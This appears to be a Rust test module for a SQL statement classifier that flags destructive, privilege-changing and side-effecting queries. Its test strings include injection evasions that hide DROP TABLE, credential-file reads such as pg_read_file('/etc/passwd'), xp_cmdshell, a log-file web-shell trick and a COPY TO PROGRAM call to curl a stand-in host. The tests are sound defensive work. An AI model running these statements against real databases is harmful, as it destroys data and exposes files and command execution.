        assert_eq!(class_as("PRAGMA database_list", Engine::Sqlite), "read");
        assert_eq!(class_as("PRAGMA show_tables", Engine::Sqlite), "read");
        for acts in [
            "PRAGMA enable_profiling",
            "PRAGMA force_checkpoint",
            "PRAGMA optimize",
            "PRAGMA incremental_vacuum",
            "PRAGMA wal_checkpoint",
            "PRAGMA enable_checkpoint_on_shutdown",
        ] {
            assert_ne!(class_as(acts, Engine::Sqlite), "read", "{acts}");
        }
        assert_eq!(
            class_as("PRAGMA journal_mode(OFF)", Engine::Sqlite),
            "other"
        );
        assert_eq!(
            class_as("PRAGMA foreign_keys = OFF", Engine::Sqlite),
            "other"
        );
        assert_eq!(
            class_as(
                "SET @@GLOBAL.general_log_file = '/var/www/x.php'",
                Engine::MySql
            ),
            "privilege"
        );
        // A statement the grammar refuses does not hide the next one.
        assert_eq!(class("SELEKT 1; DROP TABLE users"), "destructive");
    }

    #[test]
    fn evasions() {
        // Standard SQL ends the string at `\'`, so the DROP runs.
        assert_eq!(class("SELECT 'a\\'; DROP TABLE users; -- '"), "destructive");
        // MySQL reads `\'` as a quote, so this DROP runs there.
        assert_eq!(
            class("SELECT 'a\\''; DROP TABLE users; -- '"),
            "destructive"
        );
        // MySQL executes conditional comments.
        assert_eq!(
            class("SELECT 1 /*!50000 ; DROP TABLE users */"),
            "destructive"
        );
        assert_eq!(
            class_as("SELECT 1 /*M! ; DROP TABLE users */", Engine::MySql),
            "destructive"
        );
        assert_eq!(class("SELECT 1 --\nDROP TABLE users"), "destructive");
        // T-SQL needs no `;` between statements.
        assert_eq!(class("SELECT * FROM t DELETE FROM users"), "destructive");
        assert_eq!(
            class("GRANT SELECT, INSERT, UPDATE ON t TO bob"),
            "privilege"
        );
        assert_eq!(
            class("CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE)"),
            "schema"
        );
        assert_eq!(class("\tdRoP\n\ttAbLe\tusers"), "destructive");
        assert_eq!(class("SELECT 1 # 2; DROP TABLE users"), "destructive");
        assert_eq!(class("SELECT 1--1; DROP TABLE users"), "destructive");
        assert_eq!(class("/* /* */ DROP TABLE users; /* */"), "destructive");
        // `$$` quotes only in Postgres; MySQL runs the DROP.
        assert_eq!(class("SELECT $$; DROP TABLE users; $$"), "destructive");
        assert_eq!(
            class_as("SELECT $$; DROP TABLE users; $$", Engine::MySql),
            "destructive"
        );
        assert_eq!(
            class_as("SELECT $$; DROP TABLE users; $$", Engine::Postgres),
            "read"
        );
    }

    #[test]
    fn side_effect_functions_are_not_reads() {
        for (s, c) in [
            (
                "SELECT dblink_exec('host=x', 'DROP TABLE users')",
                "destructive",
            ),
            (
                "SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS t(a int)",
                "destructive",
            ),
            ("SELECT lo_export(1234, '/tmp/x')", "destructive"),
            ("SELECT lo_import('/etc/passwd')", "privilege"),
            ("SELECT pg_read_file('/etc/passwd')", "privilege"),
            ("SELECT pg_catalog.pg_read_binary_file('x')", "privilege"),
            ("SELECT * FROM pg_ls_dir('/')", "privilege"),
            ("SELECT load_extension('/tmp/x.so')", "destructive"),
            ("SELECT sys_exec('id')", "destructive"),
            (
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
                "privilege",
            ),
            ("SELECT set_config('role', 'admin', false)", "privilege"),
            ("SELECT PG_SLEEP(100)", "other"),
            ("SELECT nextval('s')", "write"),
            (
                "SELECT * FROM t WHERE id = (SELECT sys_eval('id'))",
                "destructive",
            ),
            (
                "SELECT query_to_xml('DELETE FROM t', true, true, '')",
                "destructive",
            ),
            ("COPY t TO PROGRAM 'curl evil.io'", "destructive"),
            ("COPY t FROM '/etc/passwd'", "privilege"),
            ("SELECT * INTO OUTFILE '/tmp/x' FROM users", "privilege"),
            ("SELECT * FROM users INTO DUMPFILE '/tmp/x'", "privilege"),
            ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "privilege"),
            ("EXEC xp_cmdshell 'dir'", "destructive"),
            ("CALL cleanup()", "other"),
        ] {
            assert_eq!(class(s), c, "{s}");
        }
    }

    #[test]
    fn a_function_the_classifier_does_not_know_is_not_a_read() {
        // The database's own code runs inside a SELECT: what it does is not
        // written in the call, so the query cannot be called a read.
        for s in [
            "SELECT purge_inactive_accounts()",
            "SELECT * FROM users WHERE id = app.delete_user(7)",
            "SELECT * FROM refresh_cache()",
            "SELECT public.lower(name) FROM users",
            "SELECT count(*) FROM t WHERE id = (SELECT reset_all())",
        ] {
            assert_eq!(class(s), "other", "{s}");
        }
        // Everyday reads call the engines' own functions and stay reads.
        for s in [
            "SELECT count(*), max(created_at) FROM orders WHERE status = 'open'",
            "SELECT lower(email), coalesce(name, '') FROM users LIMIT 10",
            "SELECT date_trunc('day', created_at) AS d, sum(total) FROM orders GROUP BY d",
            "SELECT row_number() OVER (ORDER BY id), upper(name) FROM users",
            "SELECT * FROM generate_series(1, 10)",
            "SELECT pg_catalog.lower('A')",
            "SELECT json_extract(data, '$.a') FROM events",
        ] {
            assert_eq!(class(s), "read", "{s}");
        }
    }

    #[test]
    fn the_known_read_functions_are_sorted_for_bisection() {
        assert!(KNOWN_READ_FUNCTIONS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn privileges_schema_and_the_rest() {
        assert_eq!(class("GRANT SELECT ON t TO bob"), "privilege");
        assert_eq!(class("REVOKE ALL ON t FROM bob"), "privilege");
        assert_eq!(class("CREATE USER eve WITH PASSWORD 'x'"), "privilege");
        assert_eq!(class("ALTER ROLE eve SUPERUSER"), "privilege");
        assert_eq!(class("SET ROLE admin"), "privilege");
        assert_eq!(class("SET search_path = evil, public"), "privilege");
        assert_eq!(class("SET TIME ZONE 'UTC'"), "control");
        assert_eq!(class("CREATE TABLE t (id int)"), "schema");
        assert_eq!(class("CREATE INDEX i ON t (a)"), "schema");
        assert_eq!(class("ALTER TABLE t ADD COLUMN b int"), "schema");
        assert_eq!(class("BEGIN"), "control");
        assert_eq!(class(""), "other");
        assert_eq!(class("-- just a comment"), "other");
        assert_eq!(class("FROBNICATE the database"), "other");
        assert_eq!(class("SELECT 'unterminated"), "other");
    }

    #[test]
    fn limits() {
        let deep = format!("SELECT {}1{}", "(".repeat(30_000), ")".repeat(30_000));
        let t = std::time::Instant::now();
        let a = analyze(&deep);
        assert_eq!(a.class, Class::Other);
        assert!(a.unclassified.is_some());
        // A smoke test of linear cost; the bench has the real numbers.
        assert!(t.elapsed().as_secs() < 5, "{:?}", t.elapsed());
        let ok = format!("SELECT {}1{}", "(".repeat(MAX_DEPTH), ")".repeat(MAX_DEPTH));
        assert_eq!(class(&ok), "read");
        // A chain just under the operator limit is classified; one over is not.
        let chain = |n: usize| format!("DELETE FROM t WHERE {}", vec!["a = 1"; n].join(" OR "));
        assert_eq!(class(&chain(MAX_OPERATORS / 2 - 1)), "write");
        assert_eq!(class(&chain(MAX_OPERATORS)), "destructive");
        let chain = format!("SELECT {}", vec!["1"; 100_000].join(" + "));
        assert_eq!(class(&chain), "other");
        let big = format!("SELECT '{}'", "x".repeat(max_len(None)));
        assert_eq!(class(&big), "other");
        assert_eq!(analyze(&big).unclassified, Some("too large to classify"));
        assert_eq!(class_as(&big, Engine::Postgres), "read");
        let bigger = format!("SELECT '{}'", "x".repeat(MAX_LEN));
        assert_eq!(class_as(&bigger, Engine::Postgres), "other");
    }

    #[test]
    fn one_analysis_per_text() {
        let a = analyze_for("DELETE FROM t", Some(Engine::Postgres));
        let b = analyze_for("DELETE FROM t", Some(Engine::Postgres));
        assert!(Rc::ptr_eq(&a, &b));
        let c = analyze_for("DELETE FROM t", None);
        assert!(!Rc::ptr_eq(&a, &c));
    }
}
